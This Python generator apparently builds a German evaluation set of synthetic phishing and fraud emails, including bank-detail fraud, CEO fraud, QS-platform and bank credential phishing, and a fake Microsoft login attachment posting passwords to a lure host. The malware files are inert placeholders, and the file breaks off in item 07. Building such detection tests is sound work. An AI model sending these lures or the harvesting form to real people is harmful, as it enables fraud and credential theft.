"""attack/01-08 (German)."""

import random

import arch
import company
import docs
import ids
import infra
import kit
import mime
import senders
import shared
from common import (E, Eq, msg, outlook_html, outlook_reply, quote_block,
                    spec, finish_html)
from company import CORR, ENT, P
from infra import T, hdr, plus, rfcdate

INERT = ("INERT PLACEHOLDER (evaluation set). In the real campaign this file is a "
         "Windows shortcut/loader. It has been replaced by this text; it contains "
         "no executable content.\r\n")


def lnk_placeholder(target_desc):
    return (INERT + "Represented behaviour: " + target_desc + "\r\n").encode("utf-8")


# ------------------------------------------------------------------ 01 ----
@msg("attack", "01", "de", "lieferant-bankverbindung-lookalike")
def a01(c):
    r = c.rng
    ten = infra.M365Tenant(random.Random("tenant:lleferant"), "lleferant-gmbh.de")
    t = T(2026, 11, 3, 9, 47, 12)
    t0 = T(2026, 10, 28, 14, 12, 40)
    L = CORR["lieferant"]
    sab = P("sabine.kroeger")
    orig_id, _ = infra.exch_msgid(r, "EXCH02")
    msgid, local = infra.m365_msgid(r, ten)
    new_iban = ids.gen_iban(r, "DE", bank="10040000")
    frm = mime.addr("Stefan Maier", "s.maier@lleferant-gmbh.de")
    to = mime.addr("Kröger, Sabine", sab[1], "iso-8859-1", "Q")
    cc = mime.addr("Petra Lang", "p.lang@lleferant-gmbh.de")
    subj = "AW: Offene Posten Lieferant GmbH / Kd.-Nr. 10233"
    text = """Guten Morgen Frau Kröger,

vielen Dank für das Zahlungsavis.

Wie letzte Woche mit Herrn Rolfes aus Ihrem Einkauf schon kurz besprochen: Wir stellen im Zuge der Einführung unseres neuen Cash-Managements unseren gesamten Zahlungsverkehr um. Die bisherige Verbindung bei der Sparkasse Münsterland Ost wird zum 30.11.2026 geschlossen, Zahlungseingänge dort können ab dann nicht mehr zugeordnet werden und gehen an Sie zurück.

Im Anhang finden Sie unser Schreiben mit der neuen Bankverbindung. Bitte passen Sie den Kreditorenstammsatz vor Ihrem nächsten Zahllauf an und geben Sie mir kurz per Mail Bescheid, wenn das erledigt ist. Die beiden offenen Rechnungen RE-2026-10417 (18.740,20 EUR) und RE-2026-10502 (%s EUR) überweisen Sie bitte bereits auf das neue Konto.

Ich bin diese Woche viel bei Kunden unterwegs und telefonisch schlecht zu erreichen, per E-Mail aber jederzeit.""" % shared.de_amount(shared.inv_totals(shared.LIEF_10502)[2])
    sig = """Mit freundlichen Grüßen

Stefan Maier
Key Account Management

Lieferant GmbH
Hafenweg 31 | 48155 Münster
Tel. +49 251 609 33-41 | Mobil +49 1521 7734902
s.maier@lieferant-gmbh.de | www.lieferant-gmbh.de

Geschäftsführer: Bernd Lammers | Amtsgericht Münster HRB 14477"""
    quoted = """Hallo Herr Maier,

anbei das Zahlungsavis zu unserem Zahllauf vom 27.10.2026 (3 Rechnungen, gesamt 22.418,75 EUR).
Die RE-2026-10417 ist für den Zahllauf am 06.11. vorgesehen, die RE-2026-10502 kommt mit dem Lauf Ende November.

Viele Grüße
Sabine Kröger

Kreditorenbuchhaltung
Example Fleischwerke GmbH | Falkenrotter Straße 90 | 49377 Vechta"""
    ql = quote_block("de", "Kröger, Sabine <sabine.kroeger@example.com>", t0,
                     "Stefan Maier <s.maier@lieferant-gmbh.de>", "Offene Posten Lieferant GmbH / Kd.-Nr. 10233")
    plain, html = outlook_reply(text, sig, ql, quoted, "de")
    # letter
    letter = docs.letter(
        title="Mitteilung Bankverbindung", author="User", creator="Microsoft® Word 2016",
        producer="Microsoft® Word 2016", date=docs.pdfdate(plus(t, -3600 * 20)),
        brand="Lieferant GmbH", brand_color=(0.12, 0.36, 0.22), brand_sub="Naturdärme · Gewürze · Verpackung",
        sender_line="Lieferant GmbH · Hafenweg 31 · 48155 Münster",
        recipient=["Example Fleischwerke GmbH", "Kreditorenbuchhaltung", "Falkenrotter Straße 90", "49377 Vechta"],
        place_date="Münster, 02.11.2026", subject="Änderung unserer Bankverbindung",
        body=["Sehr geehrte Damen und Herren,",
              "wir möchten Sie darüber informieren, dass sich im Zuge der Umstellung unseres Zahlungsverkehrs unsere Bankverbindung mit sofortiger Wirkung ändert. Bitte leisten Sie alle künftigen Zahlungen, einschließlich bereits offener Rechnungen, ausschließlich auf das folgende Konto:",
              ("box", [("Kontoinhaber:", "Lieferant GmbH"), ("Kreditinstitut:", "Commerzbank AG"),
                       ("IBAN:", ids.fmt_iban(new_iban)), ("BIC:", "COBADEBBXXX")]),
              "Unsere bisherige Verbindung bei der Sparkasse Münsterland Ost wird zum 30.11.2026 aufgelöst. Zahlungen auf dieses Konto können danach nicht mehr verbucht werden.",
              "Bitte bestätigen Sie uns die Änderung Ihrer Stammdaten kurz schriftlich per E-Mail an s.maier@lieferant-gmbh.de. Wir bedanken uns für die gute Zusammenarbeit."],
        closing=["Mit freundlichen Grüßen", "", "Lieferant GmbH", "", "i. A. Stefan Maier"],
        footer=[["Lieferant GmbH", "Hafenweg 31", "48155 Münster"],
                ["Geschäftsführer: Bernd Lammers", "Amtsgericht Münster HRB 14477", "USt-IdNr. " + L["vat"]],
                ["Commerzbank AG", "IBAN " + ids.fmt_iban(new_iban), "BIC COBADEBBXXX"]])
    pdfb = letter.render()
    root = kit.outlook(local, ten.mbx + "eurp", plain, html, "iso-8859-1",
                       atts=[(pdfb, "application/pdf", "Lieferant_GmbH_Mitteilung_Bankverbindung.pdf")])
    s = infra.m365_send(r, ten, t, frm, [to], subj, msgid, cc=[cc], in_reply_to=orig_id,
                        references=orig_id, has_attach=True, lang="de-DE")
    H, _, _ = infra.deliver(r, s, sab[1], dmarc=("pass", "none", "lleferant-gmbh.de"), arc=s.arc)
    return spec(H, root,
                "Reply in an existing accounts-payable thread with Lieferant GmbH, announcing a new bank account (PDF letter) and asking to pay two open invoices there.",
                "Look-alike domain lleferant-gmbh.de (l for i) on an attacker Microsoft 365 tenant; quotes the real thread (the original went to s.maier@lieferant-gmbh.de); new Commerzbank Berlin account, urgency, 'only by e-mail', unknown mobile number; genuine change is business/02.",
                ibans=[new_iban], phones=["+49 251 609 33-41", "+49 1521 7734902"],
                iban_notes={new_iban: "attacker"})


# ------------------------------------------------------------------ 02 ----
@msg("attack", "02", "de", "ceo-fraud-projekt-warta")
def a02(c):
    r = c.rng
    t = T(2026, 11, 12, 10, 41, 5)
    cfo = P("annette.vogelsang")
    dom = "examplegroup-eu.com"
    frm = mime.addr("Klaus Brinkmann", "klaus.brinkmann@" + dom)
    to = mime.addr("Dr. Annette Vogelsang", cfo[1], quote_always=True)
    subj = "Vertraulich - Projekt Warta"
    text = """Guten Morgen Frau Dr. Vogelsang,

ich sitze gerade mit unseren Beratern in den abschließenden Gesprächen zu einer Übernahme in Polen (Projekt „Warta“). Sie wissen, dass wir uns seit Längerem nach zusätzlicher Schlachtkapazität in Wielkopolska umsehen – jetzt ist es so weit.

Bis zur Unterzeichnung und zur Anmeldung beim Kartellamt gilt strikte Vertraulichkeit. Bitte sprechen Sie vorerst mit niemandem im Haus darüber, auch nicht mit Herrn Heitmann oder unserem Firmenkundenbetreuer – ich informiere den Beirat am Montag selbst.

Für die Exklusivitätsvereinbarung muss bis morgen 12:00 Uhr eine Sicherheitsleistung auf einem Treuhandkonto hinterlegt werden. Die Abwicklung läuft über Herrn Rechtsanwalt Dr. Marc Wieland (Wieland Rechtsanwälte, Frankfurt), der sich heute noch mit den Einzelheiten bei Ihnen meldet.

Ich bin den ganzen Tag in Sitzungen und telefonisch nicht erreichbar. Bitte antworten Sie nur an diese Adresse, die ich für das Projekt nutze, und geben Sie mir kurz Bescheid, ob Sie heute bis 16 Uhr Zeit für die Abwicklung haben.

Danke für Ihre Diskretion.

Klaus Brinkmann
Geschäftsführer

Von meinem iPhone gesendet"""
    html = '<div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>' + \
        "".join("<div>%s<br></div>" % E(ln) if ln else "<div><br></div>" for ln in text.split("\n")) + "</div></div><br>"
    html = "<!DOCTYPE html><html><head><meta content=\"text/html;charset=UTF-8\" http-equiv=\"Content-Type\"></head><body >" + html + "</body></html>"
    b = "----=_Part_%d_%d.%d" % (r.randint(10 ** 6, 10 ** 7), r.randint(10 ** 8, 10 ** 9), infra.epoch(t) * 1000 + r.randint(0, 999))
    root = kit.alt(b, text, html, "utf-8", "quoted-printable", csname="UTF-8", ct_style="quoted")
    msgid = senders.zoho_msgid(r, dom)
    ch = [hdr("Date", rfcdate(t, "CET", "plain")), hdr("From", frm), hdr("To", to),
          hdr("Message-Id", msgid), hdr("Subject", subj), hdr("MIME-Version", "1.0"),
          ("__CONTENT__", None), hdr("Importance", "High"), hdr("X-Priority", "1"),
          hdr("User-Agent", "Zoho Mail"), hdr("X-Mailer", "Zoho Mail")]
    s = senders.zoho(r, t, ch, frm, dom)
    H, _, _ = infra.deliver(r, s, cfo[1], dmarc=("pass", "none", dom), arc=s.arc)
    return spec(H, root,
                "'CEO' writes to the CFO about a confidential acquisition in Poland; an escrow deposit is due tomorrow, a lawyer will call.",
                "CEO fraud from the look-alike domain examplegroup-eu.com (Zoho Mail): secrecy (not even treasury or the bank), deadline, unreachable by phone, reply only to this address, hand-off to a fake lawyer; genuine urgent CEO request is business/03.")


# ------------------------------------------------------------------ 03 ----
@msg("attack", "03", "de", "qs-plattform-zugang-phishing")
def a03(c):
    r = c.rng
    t = T(2026, 11, 16, 7, 3, 51)
    lampe = P("henrik.lampe")
    qsid = "4%06d" % r.randint(0, 999999)
    url = "https://portal.qs-plattform.info/sso/auth?standort=%s&ref=m%s" % (qsid, infra.rhex(r, 10))
    frm = mime.addr("QS Qualität und Sicherheit GmbH", "service@qs-plattform.info", "utf-8", "Q")
    subj = mime.hdr_text("Wichtig: Bestätigung Ihres QS-Zugangs bis 20.11.2026 – Umstellung auf Zwei-Faktor-Anmeldung", "utf-8", "B")
    body = """<table width="100%%" cellpadding="0" cellspacing="0" style="background:#eef2f5;padding:24px 0;"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#1d2b36;">
<tr><td style="background:#004f9f;padding:18px 28px;color:#ffffff;font-size:20px;font-weight:bold;">QS<span style="color:#8cc63f;">.</span> Qualität und Sicherheit</td></tr>
<tr><td style="padding:28px;line-height:21px;">
<p>Sehr geehrte Damen und Herren,</p>
<p>zum 01.12.2026 wird die Anmeldung zur QS-Softwareplattform für alle Systempartner auf ein Zwei-Faktor-Verfahren umgestellt. Damit die Lieferberechtigung Ihres Standortes im QS-System ohne Unterbrechung erhalten bleibt, müssen die Zugangsdaten aller registrierten Benutzer bis zum <b>20.11.2026</b> bestätigt werden.</p>
<table cellpadding="4" style="font-size:13px;background:#f5f7f9;border-left:4px solid #8cc63f;margin:12px 0;">
<tr><td>Systempartner:</td><td><b>Example Fleischwerke GmbH, Vechta</b></td></tr>
<tr><td>Stufe:</td><td>Schlachtung/Zerlegung</td></tr>
<tr><td>QS-ID:</td><td>%s</td></tr>
<tr><td>Benutzer:</td><td>%s</td></tr></table>
<p style="text-align:center;margin:26px 0;"><a href="%s" style="background:#004f9f;color:#ffffff;padding:12px 26px;text-decoration:none;border-radius:3px;font-weight:bold;">Zugang jetzt bestätigen</a></p>
<p>Standorte, deren Zugang bis zum Stichtag nicht bestätigt wurde, werden vorübergehend auf den Status „nicht lieferberechtigt“ gesetzt. Eine erneute Freischaltung ist anschließend nur über Ihren Bündler bzw. Ihre Zertifizierungsstelle möglich.</p>
<p>Mit freundlichen Grüßen<br>Ihr QS-Team</p></td></tr>
<tr><td style="padding:16px 28px;font-size:11px;color:#6b7a86;border-top:1px solid #dde3e8;">QS Qualität und Sicherheit GmbH · Schedestraße 1-3 · 53113 Bonn<br>Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.</td></tr>
</table></td></tr></table>""" % (qsid, E(lampe[1]), Eq(url))
    html = "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\r\n<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"><title>QS</title></head><body style=\"margin:0\">\r\n" + body + "\r\n</body></html>\r\n"
    text = """Sehr geehrte Damen und Herren,

zum 01.12.2026 wird die Anmeldung zur QS-Softwareplattform für alle Systempartner auf ein Zwei-Faktor-Verfahren umgestellt. Damit die Lieferberechtigung Ihres Standortes ohne Unterbrechung erhalten bleibt, müssen die Zugangsdaten aller registrierten Benutzer bis zum 20.11.2026 bestätigt werden.

Systempartner: Example Fleischwerke GmbH, Vechta
Stufe: Schlachtung/Zerlegung
QS-ID: %s

Zugang bestätigen: %s

Mit freundlichen Grüßen
Ihr QS-Team
""" % (qsid, url)
    b = "b1=_" + infra.ralnum(r, 43)
    root = kit.alt(b, text, html, "utf-8", "quoted-printable", ct_style="bare")
    host, ip = "vs2214.webhosting-nordwest.de", "198.51.100.83"
    mid = "<%s@reisebuero-tannen.de>" % infra.ralnum(r, 43)
    ch = [hdr("Date", rfcdate(t, "CET")), hdr("To", lampe[1]), hdr("From", frm),
          hdr("Reply-To", "noreply@qs-plattform.info"), hdr("Subject", subj), hdr("Message-ID", mid),
          hdr("X-Mailer", "PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"),
          hdr("MIME-Version", "1.0"), ("__CONTENT__", None)]
    s = senders.exim_cpanel(r, t, ch, "wordpress@reisebuero-tannen.de", host, ip, local_php=True,
                            dkim_domain="reisebuero-tannen.de", cpuser="tannenreise", rcpt=lampe[1])
    H, _, _ = infra.deliver(r, s, lampe[1], dmarc=("none", None, "qs-plattform.info"))
    return spec(H, root,
                "'QS Qualität und Sicherheit' asks QA to confirm the QS platform login before a switch to two-factor login, or lose delivery eligibility.",
                "Credential phishing against the meat trade's QS platform; sent by PHPMailer from a hacked WordPress site (envelope reisebuero-tannen.de) with the From domain qs-plattform.info (not QS), link to portal.qs-plattform.info, threat of losing delivery eligibility.",
                urls=[url])


# ------------------------------------------------------------------ 04 ----
@msg("attack", "04", "de", "hausbank-securego-quishing-pdf")
def a04(c):
    r = c.rng
    t = T(2026, 11, 18, 8, 12, 33)
    th = P("tobias.heitmann")
    dom = "nordwesthandelsbank-sicherheit.de"
    code = "%s-%s" % (infra.ralnum(r, 4, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"), infra.ralnum(r, 4, "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"))
    qr = "https://nwhb-securego.de/aktivierung/?k=%s&vid=EX4441" % code
    frm = mime.addr("NWHB Business", "info@" + dom)
    subj = mime.hdr_text("Wichtige Information zu Ihrem TAN-Verfahren – Umstellung bis 30.11.2026", "utf-8", "Q")
    text = """Sehr geehrter Herr Heitmann,

das bisherige chipTAN-Verfahren für NWHB Business wird zum 30.11.2026 abgeschaltet. Damit Sie Zahlungsaufträge und Sammelüberweisungen weiterhin freigeben können, ist die einmalige Aktivierung von NWHB SecureGo plus erforderlich.

Die Anleitung mit Ihrem persönlichen Aktivierungscode finden Sie im angehängten Dokument. Aus Sicherheitsgründen erfolgt die Aktivierung ausschließlich über Ihr Smartphone – bitte scannen Sie dazu den QR-Code im Dokument.

Ohne Aktivierung können ab dem 01.12.2026 keine Aufträge mehr freigegeben werden.

Mit freundlichen Grüßen
Ihre Nordwest Handelsbank AG
Firmenkundenservice
"""
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222;">
<div style="max-width:620px;margin:0 auto;border-top:6px solid #0a3d62;padding:18px 20px;">
<div style="font-size:18px;font-weight:bold;color:#0a3d62;margin-bottom:16px;">Nordwest Handelsbank</div>
%s
</div></body></html>""" % "".join("<p>%s</p>" % E(p).replace("\n", "<br>") for p in text.strip().split("\n\n"))
    d = docs.letter(title="NWHB SecureGo plus – Aktivierung", author="NWHB", creator="Adobe InDesign 19.5 (Windows)",
                    producer="Adobe PDF Library 17.0", date=docs.pdfdate(plus(t, -7200)),
                    brand="Nordwest Handelsbank", brand_color=(0.04, 0.24, 0.38), brand_sub="NWHB Business",
                    sender_line="Nordwest Handelsbank AG · Theaterwall 12 · 26122 Oldenburg",
                    recipient=["Example Fleischwerke GmbH", "Herrn Tobias Heitmann", "Falkenrotter Straße 90", "49377 Vechta"],
                    place_date="Oldenburg, 17.11.2026", subject="Umstellung auf NWHB SecureGo plus – Ihr Aktivierungscode",
                    ref_lines=[("Kundennummer", "4441 %04d" % r.randint(0, 9999)), ("Vorgang", "SG-2026-%06d" % r.randint(0, 999999))],
                    body=["Sehr geehrter Herr Heitmann,",
                          "wie bereits angekündigt, stellen wir alle Zugänge zu NWHB Business bis zum 30.11.2026 auf das App-basierte Freigabeverfahren NWHB SecureGo plus um. chipTAN- und smsTAN-Verfahren werden danach nicht mehr unterstützt.",
                          "So aktivieren Sie das neue Verfahren:",
                          "1. Scannen Sie den QR-Code rechts mit der Kamera Ihres Smartphones.",
                          "2. Melden Sie sich mit Ihrem VR-NetKey bzw. Alias und Ihrer PIN an.",
                          "3. Bestätigen Sie die Aktivierung mit dem Aktivierungscode " + code + ".",
                          "Bitte führen Sie die Aktivierung zeitnah durch, damit es bei der Freigabe Ihrer Zahlungsaufträge zu keinen Verzögerungen kommt."],
                    closing=["Mit freundlichen Grüßen", "Nordwest Handelsbank AG", "Firmenkundenservice"],
                    footer=[["Nordwest Handelsbank AG", "Theaterwall 12, 26122 Oldenburg"], ["Vorstand: Dr. Hauke Remmers", "Amtsgericht Oldenburg HRB 4711"]],
                    qr=qr, qr_caption=["Mit dem Smartphone scannen"])
    pdfb = d.render()
    bnd = infra.ralnum(r, 60, "0123456789abcdef")
    alt = kit.alt(bnd, text, html, "utf-8", "quoted-printable", ct_style="quoted")
    att = mime.attachment(pdfb, "application/pdf", "NWHB_Umstellung_SecureGo_plus.pdf", style="plain")
    root = kit.mixed(infra.ralnum(r, 60, "0123456789abcdef"), [alt, att], quoted=False)
    mid = "<%s@geopod-ismtpd-%d>" % (infra.ralnum(r, 22, senders.ALNUM + "-_"), r.randint(1, 40))
    ch = [hdr("Date", rfcdate(t, "UTC", "pad").replace("+0000", "+0000 (UTC)")), hdr("From", frm),
          hdr("Mime-Version", "1.0"), hdr("Message-ID", mid), hdr("Subject", subj),
          hdr("To", mime.addr("Tobias Heitmann", th[1])), ("__CONTENT__", None)]
    s = senders.sendgrid(r, t, ch, frm, dom)
    senders.fix_rcpt(s, th[1])
    H, _, _ = infra.deliver(r, s, th[1], dmarc=("pass", "none", dom))
    return spec(H, root,
                "'Nordwest Handelsbank' (the HQ's house bank) announces the end of chipTAN; the attached PDF carries a QR code to activate 'SecureGo plus'.",
                "Quishing: the only link is in a QR code inside the PDF (nwhb-securego.de), mail from look-alike nordwesthandelsbank-sicherheit.de via SendGrid, asks for login and activation code; the real bank (business/04) writes from nordwesthandelsbank.de and never sends login links.",
                qr=[qr])


# ------------------------------------------------------------------ 05 ----
@msg("attack", "05", "de", "zahlungsavis-html-anhang")
def a05(c):
    r = c.rng
    t = T(2026, 11, 4, 13, 26, 8)
    sab = P("sabine.kroeger")
    frm = mime.addr("Anja Thiele", "a.thiele@fleischerei-thiele.de")
    subj = "Zahlungsavis 04.11.2026"
    text = """Guten Tag,

im Anhang erhalten Sie unser Zahlungsavis zu Ihren Rechnungen aus Oktober.
Bitte um kurze Prüfung.

Mit freundlichen Grüßen
Anja Thiele
Buchhaltung

Fleischerei Thiele GmbH
Lange Straße 17
49661 Cloppenburg
Tel. 04471 93310-12
"""
    post = "https://docview-zahlungsavis.pages.dev/verify"
    att_html = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Zahlungsavis_04112026.pdf - OneDrive</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;margin:0}.box{width:380px;margin:90px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right}</style></head>
<body><div class="box"><div style="font-size:20px;font-weight:600;color:#1b1b1b">Microsoft</div>
<p style="font-size:22px;font-weight:600">Dokument geschützt</p>
<p>Zahlungsavis_04112026.pdf (148 KB) wurde Ihnen über OneDrive freigegeben. Bestätigen Sie Ihre Identität, um das Dokument anzuzeigen.</p>
<form method="post" action="%s">
<input type="email" name="login" value="%s" readonly>
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="src" value="thiele-avis-1104">
<button type="submit">Anmelden</button></form>
<p style="clear:both;font-size:12px;color:#666;padding-top:20px">Sicherheitsprüfung durch Microsoft Defender</p></div></body></html>
""" % (post, sab[1])
    text_html = outlook_html(text, "de")
    ip = "91.%d.%d.%d" % (r.randint(32, 63), r.randint(0, 255), r.randint(1, 254))
    msgid = "<%s$%s$%s@fleischerei-thiele.de>" % ("000001db" + infra.rhex(r, 8), infra.rhex(r, 8), infra.rhex(r, 8))
    local = infra.rhex(r, 12)
    b1 = "----=_NextPart_000_%s_01DD4C6A.%s" % (infra.rhex(r, 4, True), infra.rhex(r, 8, True))
    b2 = "----=_NextPart_001_%s_01DD4C6A.%s" % (infra.rhex(r, 4, True), infra.rhex(r, 8, True))
    tp = mime.text(text, "plain", "iso-8859-1", "quoted-printable", csname="iso-8859-1")
    hp = mime.text(finish_html(text_html, "iso-8859-1"), "html", "iso-8859-1", "quoted-printable", csname="iso-8859-1")
    alt = mime.multipart_inline("alternative", [tp, hp], b2, preamble=None)
    alt.ctype = 'multipart/alternative;\r\n\tboundary="%s"' % b2
    att = mime.attachment(att_html.encode("utf-8"), "text/html", "Zahlungsavis_04112026.html", style="plain")
    root = mime.multipart_inline("mixed", [alt, att], b1, preamble="This is a multipart message in MIME format.\r\n")
    root.ctype = 'multipart/mixed;\r\n\tboundary="%s"' % b1
    ch = [hdr("From", frm), hdr("To", mime.addr("Kröger, Sabine", sab[1], "iso-8859-1", "Q")),
          hdr("Subject", subj), hdr("Date", rfcdate(t, "CET")), hdr("Message-ID", msgid),
          hdr("MIME-Version", "1.0"), ("__CONTENT__", None), hdr("X-Mailer", "Microsoft Outlook 16.0"),
          hdr("Thread-Index", "Ads" + infra.rb64(r, 18)[:25]), hdr("Content-Language", "de")]
    s = senders.united(r, t, ch, frm, "ionos", ip)
    H, _, _ = infra.deliver(r, s, sab[1], dkim_results=[], dmarc=("none", None, "fleischerei-thiele.de"))
    return spec(H, root,
                "Short payment-advice mail from a butcher's shop customer with an attached .html 'Zahlungsavis'.",
                "HTML attachment lure from a hijacked IONOS mailbox of a real-looking customer: the attachment is a fake Microsoft 'document protected' login page prefilled with the recipient's address, posting to docview-zahlungsavis.pages.dev.",
                urls=[post], phones=["04471 93310-12"])


# ------------------------------------------------------------------ 06 ----
@msg("attack", "06", "de", "veterinaeramt-anhoerung-passwort-zip")
def a06(c):
    r = c.rng
    t = T(2026, 11, 24, 11, 2, 47)
    lampe = P("henrik.lampe")
    bos = P("frank.boesing")
    dom = "landkreis-vechta.eu"
    pw = "LKVec-1187#26"
    frm = mime.addr("Landkreis Vechta - Veterinäramt", "veterinaeramt@" + dom, "utf-8", "Q")
    subj = mime.hdr_text("Anhörung nach § 28 VwVfG – Az. 39.3-41/2026-1187 – amtliche Kontrolle vom 21.10.2026", "utf-8", "Q")
    text = """Sehr geehrte Damen und Herren,

im Rahmen der amtlichen Kontrolle Ihres Betriebes (Zulassungsnummer DE NI 10441 EG) am 21.10.2026 wurden in den Bereichen Zerlegung und Kühlhaus Mängel festgestellt, u. a. Kondenswasserbildung über offenem Produkt, lückenhafte Temperaturaufzeichnungen sowie Mängel bei der Reinigung und Desinfektion von Transportbehältern.

Es ist beabsichtigt, gegen die verantwortlichen Personen Ihres Betriebes ein Bußgeldverfahren nach § 60 LFGB in Verbindung mit der Verordnung (EG) Nr. 853/2004 einzuleiten. Gemäß § 28 Verwaltungsverfahrensgesetz erhalten Sie Gelegenheit, sich innerhalb von 14 Tagen nach Zugang dieses Schreibens zu den Feststellungen zu äußern.

Den Kontrollbericht mit Fotodokumentation sowie den Anhörungsbogen erhalten Sie aus Datenschutzgründen als verschlüsseltes Archiv.
Kennwort: %s

Bitte verwenden Sie für Ihre Stellungnahme ausschließlich den beigefügten Anhörungsbogen und senden Sie ihn unterschrieben an diese Adresse zurück.

Mit freundlichen Grüßen
Im Auftrag

Dr. Katrin Osterloh
Landkreis Vechta
Amt für Veterinärwesen und Lebensmittelüberwachung
Ravensberger Straße 20
49377 Vechta
""" % pw
    html = "<html><body><div style=\"font-family:Arial;font-size:10pt\">" + "".join("<p>%s</p>" % E(p).replace("\n", "<br>") for p in text.strip().split("\n\n")) + "</div></body></html>"
    dt = (2026, 11, 24, 10, 51, 36)
    z = arch.make_zip([
        ("Kontrollbericht_21.10.2026_Fotodokumentation.pdf.lnk", lnk_placeholder("shortcut disguised as PDF; would start a hidden PowerShell download of a loader (DLL side-loading)."), dt),
        ("Anhoerungsbogen_Az_1187.pdf.lnk", lnk_placeholder("second shortcut with the same behaviour."), dt),
    ], password=pw, rng=r)
    bnd = infra.rhex(r, 32)
    alt = kit.alt(infra.rhex(r, 32), text, html, "utf-8", "quoted-printable", ct_style="bare")
    att = mime.attachment(z, "application/zip", "Az_39.3-41_2026-1187.zip", style="plain")
    root = kit.mixed(bnd, [alt, att], quoted=False)
    mid = senders.mg_msgid(r, t, dom)
    ch = [hdr("Mime-Version", "1.0"), ("__CONTENT__", None), hdr("Subject", subj),
          hdr("From", frm), hdr("To", ", ".join([mime.addr("Dr. Henrik Lampe", lampe[1], quote_always=True)])),
          hdr("Cc", mime.addr("Frank Bösing", bos[1], "utf-8", "Q")),
          hdr("Date", rfcdate(t, "UTC", "pad")), hdr("Message-Id", mid), hdr("Reply-To", frm),
          hdr("Sender", "veterinaeramt@" + dom)]
    s = senders.mailgun(r, t, ch, frm, dom)
    senders.fix_rcpt(s, lampe[1])
    H, _, _ = infra.deliver(r, s, lampe[1], dmarc=("pass", "none", dom))
    return spec(H, root,
                "Formal 'hearing' letter from the district veterinary office about an inspection, with a password-protected ZIP containing the inspection report.",
                "Malware delivery: look-alike authority domain landkreis-vechta.eu via Mailgun, password in the body to defeat scanning, ZIP holds .pdf.lnk shortcuts (inert placeholders); authorities send such documents by post or the official portal.",
                zip_password=pw)


# ------------------------------------------------------------------ 07 ----
@msg("attack", "07", "de", "gewerberegister-eintragungsofferte")
def a07(c):
    r = c.rng
    t = T(2026, 10, 13, 6, 18, 2)
    bn = P("birgit.niemann")
    dom = "zgur-register.de"
    reg = "ZGR-2026-%07d" % r.randint(0, 9999999)
    frm = mime.addr("ZGUR Unternehmensregister", "eintragung@" + dom)
    subj = mime.hdr_text("Aktualisierung Ihres Eintrags – Example Fleischwerke GmbH (%s)" % reg, "utf-8", "B")
    text = """Sehr geehrte Damen und Herren,

zur Pflege des Zentralen Gewerbe- und Unternehmensregisters (ZGUR) bitten wir Sie, die bei uns gespeicherten Daten Ihres Unternehmens zu prüfen.

Registernummer: %s
Unternehmen: Example Fleischwerke GmbH
Sitz: Falkenrotter Straße 90, 49377 Vechta
Wirtschaftszweig: 10.11 Schlachten (ohne Schlachten von Geflügel)

Den Korrekturabzug finden Sie als PDF im Anhang. Bitte ergänzen oder korrigieren Sie die Angaben und senden Sie das Formular unterschrieben innerhalb von 10 Tagen per E-Mail oder Fax an uns zurück, damit Ihr Eintrag aktuell bleibt.

Mit freundlichen Grüßen
ZGUR Datenservice
Tel. +49 30 5557 9120 | Fax +49 30 5557 9129
""" % reg
    html = '<html><body style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#333"><table width="640" align="center"><tr><td style="border-bottom:3px solid #b22222;padding:10px 0;font-size:20px;font-weight:bold;color:#b22222">ZGUR<span style="color:#333;font-weight:normal"> | Zentrales Gewerbe- und Unternehmensregister</span></td></tr><tr><td style="padding:16px 0">' + \
        "".join("<p>%s</p>" % E(p).replace("\n", "<br>") for p in text.strip().split("\n\n")) + \
        '<p style="font-size:11px;color:#888">Sie erhalten diese E-Mail, weil Ihr Unternehmen in öffentlich zugänglichen Quellen geführt wird. <a href="https://zgur-register.de/abmelden?r=%s">Abmelden</a></p></td></tr></table></body></html>' % reg
    d = docs.letter(title="Korrekturabzug", author="ZGUR", producer="TCPDF 6.7.5 (http://www.tcpdf.org)", creator="TCPDF",
                    date=docs.pdfdate(plus(t, -3600)), brand="ZGUR", brand_color=(0.7, 0.13, 0.13),
                    brand_sub="Zentrales Gewerbe- und Unternehmensregister",
                    sender_line="ZGUR Datenservice · Friedrichstraße 171 · 10117 Berlin",
                    recipient=["Example Fleischwerke GmbH", "Falkenrotter Straße 90", "49377 Vechta"],
                    place_date="Berlin, 12.10.2026", subject="Korrekturabzug / Eintragungsantrag " + reg,
                    body=["Bitte prüfen Sie die nachstehenden Angaben, korrigieren Sie diese gegebenenfalls und senden Sie das Formular unterschrieben zurück.",
                          ("box", [("Firma:", "Example Fleischwerke GmbH"), ("Anschrift:", "Falkenrotter Straße 90, 49377 Vechta"),
                                   ("Registergericht:", "Amtsgericht Oldenburg HRB 215834"), ("Branche:", "10.11 Schlachten"),
                                   ("Telefon:", "+49 4441 9270-0"), ("Internet:", "www.example.com")]),
                          "Ort, Datum, Unterschrift / Firmenstempel: ______________________________________",
